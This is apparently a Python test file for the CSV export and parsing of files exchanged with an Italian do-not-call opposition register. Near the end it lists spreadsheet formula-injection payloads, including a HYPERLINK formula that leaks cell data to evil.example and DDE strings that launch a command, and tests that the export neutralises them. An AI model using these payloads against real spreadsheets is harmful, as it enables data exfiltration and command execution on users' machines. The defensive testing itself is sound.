"""The files exchanged with the opposition register (policy/register_file.py)."""

from followup_manager_policy.register_file import RegisterLayout
from hypothesis import given
from hypothesis import strategies as st

LAYOUT = RegisterLayout()


def parse(text):
    return LAYOUT.parse(text.encode("utf-8"))


def test_export_is_a_header_and_one_line_per_number_or_address():
    data = LAYOUT.export(
        [
            ("phone", "+390649910000"),
            ("post", "VIA ROMA 1, 00184 ROMA RM"),
            ("phone", "+390649910000"),
        ]
    )
    assert data.decode() == ("type;value\nphone;+390649910000\npost;VIA ROMA 1, 00184 ROMA RM\n")


def test_an_answer_is_read_with_its_line_numbers():
    result = parse(
        "type;value;status\n"
        "phone;+390649910000;registered\n"
        "\n"
        "phone;0039 347 123 4567;non iscritto\n"
        "post;via roma 1,  00184 roma rm;Iscritto\n"
        ";06 4991 0001;0\n"
    )
    assert result.read == 4
    assert not result.rejected
    assert [(r.line, r.kind, r.value, r.state) for r in result.rows] == [
        (2, "phone", "+390649910000", "registered"),
        (4, "phone", "+393471234567", "clear"),
        (5, "post", "VIA ROMA 1, 00184 ROMA RM", "registered"),
        (6, "phone", "+390649910001", "clear"),
    ]


def test_commas_and_a_byte_order_mark_are_accepted():
    result = LAYOUT.parse("\ufefftype,value,status\r\nphone,+390649910000,clear\r\n".encode())
    assert [(r.value, r.state) for r in result.rows] == [("+390649910000", "clear")]


def test_bad_lines_are_rejected_with_their_number_and_reason():
    result = parse(
        "type;value;status\n"
        "phone;+390649910000;registered\n"
        "phone;not a number;clear\n"
        "phone;+41446681800;clear\n"
        "fax;+390649910000;clear\n"
        "phone;+390649910002;maybe\n"
        "phone;+390649910000;clear\n"
        "post;;clear\n"
        "phone;+390649910003;clear;extra\n"
    )
    assert result.read == 8
    assert [(r.line, r.reason) for r in result.rejected] == [
        (3, "number"),
        (4, "foreign"),
        (5, "type"),
        (6, "status"),
        (7, "conflict"),
        (8, "address"),
        (9, "columns"),
    ]
    assert [r.line for r in result.rows] == [2]


def test_a_file_that_is_not_text_or_empty_is_rejected_whole():
    for data in (b"", b"  \n", b"\x00\x01\x02", "città".encode("latin-1")):
        result = LAYOUT.parse(data)
        assert [(r.line, r.reason) for r in result.rejected] == [(0, "file")]
        assert not result.rows


@given(st.binary(max_size=200))
def test_any_bytes_give_an_answer_never_an_exception(data):
    result = LAYOUT.parse(data)
    assert result.read >= len(result.rows)


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["+3906499100", "+3934712345"]),
            st.integers(min_value=10, max_value=99),
            st.booleans(),
        ),
        max_size=20,
        unique_by=lambda t: (t[0], t[1]),
    )
)
def test_an_export_answered_line_by_line_reads_back(entries):
    numbers = [(f"{prefix}{suffix}", registered) for prefix, suffix, registered in entries]
    exported = LAYOUT.export([("phone", number) for number, _r in numbers]).decode()
    statuses = iter("registered" if registered else "clear" for _n, registered in numbers)
    lines = exported.splitlines()
    answer = "\n".join([lines[0] + ";status", *(f"{line};{next(statuses)}" for line in lines[1:])])
    result = parse(answer)
    assert not result.rejected
    assert [(r.value, r.state == "registered") for r in result.rows] == numbers


def test_an_address_longer_than_the_limit_is_a_rejected_line():
    """Seen live: a 10,000-character address went on to the database's index and failed."""
    long_address = "VIA " + "ROMA " * 2000
    result = parse(f"type;value;status\npost;{long_address};clear\npost;Via Roma 1, Roma;clear\n")
    assert [(r.line, r.reason) for r in result.rejected] == [(2, "too_long")]
    assert len(result.rejected[0].text) < 100
    assert [r.value for r in result.rows] == ["VIA ROMA 1, ROMA"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data):
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";"))[1:]


@given(st.sampled_from(FORMULAS) | st.text(min_size=1).map(lambda t: "=" + t))
def test_no_exported_cell_starts_like_a_formula(value):
    [[kind, cell]] = _cells(LAYOUT.export([("post", value)]))
    assert kind == "post"
    assert cell == "'" + value.replace("\r", " ").replace("\n", " ")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_every_formula_of_the_probe_is_written_as_text():
    cells = _cells(LAYOUT.export([("post", value) for value in FORMULAS]))
    assert [cell for _kind, cell in cells] == [
        "'" + value.replace("\r", " ") for value in FORMULAS
    ]


def test_numbers_in_e164_and_plain_addresses_are_written_as_they_are():
    data = LAYOUT.export([("phone", "+390649910000"), ("post", "VIA ROMA 1, 00184 ROMA RM")])
    assert data.decode() == "type;value\nphone;+390649910000\npost;VIA ROMA 1, 00184 ROMA RM\n"


def test_a_neutralized_address_reads_back_as_the_address():
    address = '=HYPERLINK("HTTP://EVIL.EXAMPLE","CLICK") 1, 00184 ROMA RM'
    exported = LAYOUT.export([("post", address), ("phone", "'+390649910000")]).decode()
    answer = "type;value;status\n" + "".join(
        f"{line};clear\n" for line in exported.splitlines()[1:]
    )
    result = parse(answer)
    assert not result.rejected
    assert [(r.kind, r.value) for r in result.rows] == [
        ("post", address),
        ("phone", "+390649910000"),
    ]
